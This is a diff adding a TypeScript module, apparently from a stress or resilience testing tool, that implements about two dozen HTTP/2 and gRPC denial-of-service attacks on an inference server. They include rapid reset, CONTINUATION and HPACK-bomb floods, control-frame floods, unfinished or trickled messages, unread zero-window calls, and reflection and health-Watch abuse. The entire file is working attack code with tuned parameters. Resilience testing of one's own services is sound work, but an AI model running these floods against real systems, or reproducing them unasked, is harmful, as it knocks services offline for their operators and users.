@@ -1,0 +1,362 @@
+/** HTTP/2 and gRPC by hand: streams without end, floods of frames, answers that nobody takes. */
+import { again, largest, Tally, type Attack, type Target } from '../attack';
+import { filled, gzip } from '../wire/bytes';
+import { callOn, INFER, message, open, REFLECTION, SERVICE, startCall } from '../wire/grpc';
+import { END_HEADERS, END_STREAM, FRAME, frame, grpcHeaders, literal, RawHttp2, setting } from '../wire/http2';
+import { field, inferRequest } from '../wire/protobuf';
+import { until } from '../wire/http1';
+
+const NAME = 'inference.GRPCInferenceService';
+const WATCH = '/grpc.health.v1.Health/Watch';
+
+/** So many connections, each of which does something until the time is over, and is held until then. */
+async function flood(
+  target: Target,
+  connections: number,
+  act: (connection: RawHttp2, isOver: () => boolean) => Promise<void>,
+  window?: number,
+): Promise<Tally> {
+  const tally = new Tally();
+  const end = performance.now() + target.seconds * 1000;
+  const one = async () => {
+    const connection = await RawHttp2.open(target, window);
+    await connection.wait(200);
+    await act(connection, () => connection.closed || performance.now() > end);
+    if (!connection.closed) await Promise.race([until(end), closing(connection, end)]);
+    tally.add(connection.status, connection.sent);
+    connection.close();
+  };
+  await Promise.all(Array.from({ length: connections }, one));
+  return tally;
+}
+
+async function closing(connection: RawHttp2, end: number): Promise<void> {
+  while (!connection.closed && performance.now() < end) await connection.wait(100);
+}
+
+/** The same frames again and again. */
+function frames(name: string, what: string, bytes: Buffer, more: Partial<Attack> = {}): Attack {
+  const chunk = filled(64 * 1024, bytes);
+  return {
+    name,
+    what,
+    ...more,
+    run: (target) =>
+      flood(target, 4, async (connection, isOver) => {
+        while (!isOver()) await connection.send(chunk);
+      }),
+  };
+}
+
+/** Calls without number on one connection, whose answers nobody takes. */
+function unread(
+  name: string,
+  what: string,
+  path: string,
+  body: (target: Target) => Buffer,
+  more: Partial<Attack> = {},
+): Attack {
+  return {
+    name,
+    what,
+    ...more,
+    run: (target) =>
+      flood(
+        target,
+        2,
+        async (connection, isOver) => {
+          const bytes = body(target);
+          for (let stream = 1; !isOver() && stream < 80_000; stream += 2) {
+            await connection.startCall(stream, path, bytes);
+            if (stream % 200 === 1) await connection.wait(1);
+          }
+        },
+        0,
+      ),
+  };
+}
+
+export const grpcStreams: readonly Attack[] = [
+  {
+    name: 'h2-unfinished-messages',
+    what: 'ten gRPC messages of the largest size on a connection, none of which ends',
+    short: true,
+    run: (target) =>
+      flood(target, 4, async (connection, isOver) => {
+        const size = largest(target);
+        const prefix = message(Buffer.alloc(0));
+        prefix.writeUInt32BE(size, 1);
+        const left = new Map<number, number>();
+        for (let stream = 1; stream < 20; stream += 2) {
+          await connection.startCall(stream, INFER);
+          await connection.sendData(stream, prefix);
+          left.set(stream, size - 1);
+        }
+        while (!isOver()) {
+          let moved = 0;
+          for (const [stream, missing] of left) {
+            if (!connection.windows.has(stream)) left.delete(stream);
+            const sent = await connection.sendData(stream, Buffer.alloc(Math.min(64 * 1024, missing), 1));
+            left.set(stream, missing - sent);
+            moved += sent;
+          }
+          if (moved === 0) await connection.wait(200);
+        }
+      }),
+  },
+  {
+    name: 'h2-trickled-messages',
+    what: 'many streams whose messages come a byte at a time',
+    run: (target) =>
+      flood(target, 8, async (connection, isOver) => {
+        const prefix = message(Buffer.alloc(0));
+        prefix.writeUInt32BE(largest(target), 1);
+        for (let stream = 1; stream < 400 && !isOver(); stream += 2) {
+          await connection.startCall(stream, INFER);
+          await connection.sendData(stream, prefix);
+        }
+        while (!isOver()) {
+          for (const stream of connection.windows.keys()) await connection.sendData(stream, Buffer.of(1));
+          await connection.wait(100);
+        }
+      }),
+  },
+  unread(
+    'h2-unread-answers',
+    'calls of ModelConfig whose answers nobody takes: the window is 0',
+    `${SERVICE}/ModelConfig`,
+    ({ model }) => message(field(1, model)),
+    { short: true },
+  ),
+  unread('h2-unread-inference', 'inference whose answers, errors, nobody takes', INFER, (target) =>
+    message(inferRequest(target, field(3, 'i'.repeat(2000)))),
+  ),
+  {
+    name: 'h2-unread-stream',
+    what: 'a ModelStreamInfer of messages without end, whose answers nobody takes',
+    short: true,
+    run: (target) =>
+      flood(
+        target,
+        4,
+        async (connection, isOver) => {
+          const bytes = filled(64 * 1024, message(inferRequest(target)));
+          for (let stream = 1; stream < 20; stream += 2)
+            await connection.startCall(stream, `${SERVICE}/ModelStreamInfer`);
+          while (!isOver()) {
+            let moved = 0;
+            for (const stream of connection.windows.keys()) moved += await connection.sendData(stream, bytes);
+            if (moved === 0) await connection.wait(200);
+          }
+        },
+        0,
+      ),
+  },
+  {
+    name: 'h2-stream-of-messages',
+    what: 'a ModelStreamInfer of small messages without end, read',
+    run: (target) =>
+      flood(target, 4, async (connection, isOver) => {
+        const bytes = filled(64 * 1024, message(inferRequest(target)));
+        await connection.startCall(1, `${SERVICE}/ModelStreamInfer`);
+        while (!isOver()) if ((await connection.sendData(1, bytes)) === 0) await connection.wait(50);
+      }),
+  },
+  {
+    name: 'h2-many-messages-in-a-call',
+    what: 'a unary call with messages without end',
+    run: (target) =>
+      flood(target, 4, async (connection, isOver) => {
+        const bytes = filled(64 * 1024, message(Buffer.alloc(0)));
+        await connection.startCall(1, INFER);
+        while (!isOver()) if ((await connection.sendData(1, bytes)) === 0) await connection.wait(50);
+      }),
+  },
+  {
+    name: 'h2-thousands-of-streams',
+    what: 'streams without end that are only begun, over 16 connections',
+    short: true,
+    run: (target) =>
+      flood(target, 16, async (connection, isOver) => {
+        for (let stream = 1; stream < 20_000 && !isOver(); stream += 2) await connection.startCall(stream, INFER);
+      }),
+  },
+  {
+    name: 'h2-rapid-reset',
+    what: 'calls that are reset as soon as they are made',
+    short: true,
+    run: (target) =>
+      flood(target, 4, async (connection, isOver) => {
+        const cancel = Buffer.from([0, 0, 0, 8]);
+        const body = message(inferRequest(target));
+        const headers = grpcHeaders(INFER);
+        for (let stream = 1; !isOver() && stream < 2 ** 30;) {
+          const parts: Buffer[] = [];
+          for (let i = 0; i < 100; i++, stream += 2) {
+            parts.push(frame(FRAME.headers, END_HEADERS, stream, headers));
+            parts.push(frame(FRAME.data, END_STREAM, stream, body), frame(FRAME.resetStream, 0, stream, cancel));
+          }
+          await connection.send(Buffer.concat(parts));
+        }
+      }),
+  },
+  frames(
+    'h2-settings-flood',
+    'SETTINGS without end, each to be acknowledged',
+    frame(FRAME.settings, 0, 0, setting(4, 65535)),
+    { short: true },
+  ),
+  frames('h2-ping-flood', 'PING without end, each to be answered', frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
+  frames(
+    'h2-priority-flood',
+    'PRIORITY of streams that do not exist',
+    frame(FRAME.priority, 0, 3, Buffer.from([0, 0, 0, 1, 16])),
+  ),
+  frames(
+    'h2-window-flood',
+    'WINDOW_UPDATE of the connection without end',
+    frame(FRAME.windowUpdate, 0, 0, Buffer.from([0, 0, 0, 1])),
+  ),
+  frames('h2-unknown-frames', 'frames of a type that does not exist', frame(0xbe, 0, 0, Buffer.alloc(1000))),
+  {
+    name: 'h2-empty-data-flood',
+    what: 'DATA frames of no bytes without end, on open streams',
+    run: (target) =>
+      flood(target, 4, async (connection, isOver) => {
+        await connection.startCall(1, INFER);
+        const chunk = filled(64 * 1024, frame(FRAME.data, 0, 1));
+        while (!isOver()) await connection.send(chunk);
+      }),
+  },
+  {
+    name: 'h2-continuation-flood',
+    what: 'headers that go on and on in CONTINUATION frames',
+    short: true,
+    run: (target) =>
+      flood(target, 8, async (connection, isOver) => {
+        await connection.send(frame(FRAME.headers, 0, 1, grpcHeaders(INFER)));
+        const more = Buffer.concat(Array.from({ length: 200 }, (_, i) => literal(0, `x-${i}`, 'v'.repeat(50))));
+        const chunk = filled(128 * 1024, frame(FRAME.continuation, 0, 1, more));
+        while (!isOver()) await connection.send(chunk);
+      }),
+  },
+  {
+    name: 'h2-unfinished-headers',
+    what: 'headers that are begun and never ended, over 500 connections',
+    run: (target) =>
+      flood(target, 500, async (connection) => {
+        await connection.send(frame(FRAME.headers, 0, 1, grpcHeaders(INFER, { x: 'v'.repeat(12_000) })));
+      }),
+  },
+  {
+    name: 'h2-hpack-bomb',
+    what: 'a header of 4,000 bytes put into the table once and named again in a byte each',
+    short: true,
+    run: (target) =>
+      flood(target, 8, async (connection, isOver) => {
+        const first = Buffer.concat([grpcHeaders(INFER), literal(0x40, 'x-bomb', 'v'.repeat(3900))]);
+        await connection.send(frame(FRAME.headers, END_HEADERS, 1, first));
+        // The first entry of the table of its own is number 62.
+        const again = Buffer.concat([grpcHeaders(INFER), Buffer.alloc(15_000, 0x80 | 62)]);
+        for (let stream = 3; !isOver() && stream < 1000; stream += 2) {
+          await connection.send(frame(FRAME.headers, END_HEADERS, stream, again));
+          await connection.wait(1);
+        }
+      }),
+  },
+  {
+    name: 'h2-reflection-names',
+    what: 'server reflection asked on streams for long names that do not exist, each another',
+    short: true,
+    async run(target) {
+      const tally = new Tally();
+      const end = performance.now() + target.seconds * 1000;
+      const session = open(target);
+      const stream = startCall(session, REFLECTION);
+      let status = 'held';
+      stream
+        .on('error', () => (status = 'closed'))
+        .on('close', () => (status = 'closed'))
+        .resume();
+      for (let i = 0; performance.now() < end && status === 'held'; i++) {
+        const name = `n${i}${'x'.repeat(200_000)}`;
+        const body = message(gzip(field(4, name)), true);
+        tally.bytes += body.length;
+        if (!stream.write(body)) await Promise.race([new Promise((done) => stream.once('drain', done)), until(end)]);
+        await until(performance.now());
+      }
+      tally.add(status);
+      session.destroy();
+      return tally;
+    },
+  },
+  {
+    name: 'h2-reflection-calls',
+    what: 'server reflection asked for other names in a call each',
+    async run(target) {
+      const tally = new Tally();
+      const session = open(target);
+      await again(16, target.seconds, async (turn) => {
+        const body = message(field(4, `m${turn}${'y'.repeat(30_000)}`));
+        tally.add(await callOn(session, REFLECTION, body), body.length);
+      });
+      session.destroy();
+      return tally;
+    },
+  },
+  {
+    name: 'h2-reflection-unread',
+    what: 'server reflection asked for its largest file again and again, not read',
+    run: (target) =>
+      flood(
+        target,
+        4,
+        async (connection, isOver) => {
+          const bytes = filled(60 * 1024, message(field(4, NAME)));
+          await connection.startCall(1, REFLECTION);
+          while (!isOver()) if ((await connection.sendData(1, bytes)) === 0) await connection.wait(100);
+        },
+        0,
+      ),
+  },
+  {
+    name: 'h2-watch-flood',
+    what: 'Watch of services with long names, as many as the server lets, which never ends',
+    short: true,
+    run: (target) =>
+      flood(target, 16, async (connection, isOver) => {
+        for (let stream = 1; stream < 2000 && !isOver(); stream += 2) {
+          await connection.startCall(stream, WATCH, message(field(1, `${stream}${'s'.repeat(10_000)}`)));
+          if (stream % 20 === 1) await connection.wait(1);
+        }
+      }),
+  },
+  {
+    name: 'h2-watch-again',
+    what: 'Watch begun and given up again and again',
+    run: (target) =>
+      flood(target, 4, async (connection, isOver) => {
+        const body = message(field(1, ''));
+        const cancel = Buffer.from([0, 0, 0, 8]);
+        for (let stream = 1; !isOver(); stream += 2) {
+          await connection.startCall(stream, WATCH, body);
+          if (stream > 100) await connection.send(frame(FRAME.resetStream, 0, stream - 100, cancel));
+        }
+      }),
+  },
+  {
+    name: 'h2-new-connections',
+    what: 'connections that make a call and go away before its answer',
+    async run(target) {
+      const tally = new Tally();
+      const body = message(inferRequest(target));
+      await again(16, target.seconds, async () => {
+        const connection = await RawHttp2.open(target);
+        await connection.startCall(1, INFER, body);
+        tally.add(connection.status, connection.sent);
+        connection.close();
+      });
+      return tally;
+    },
+  },
+];
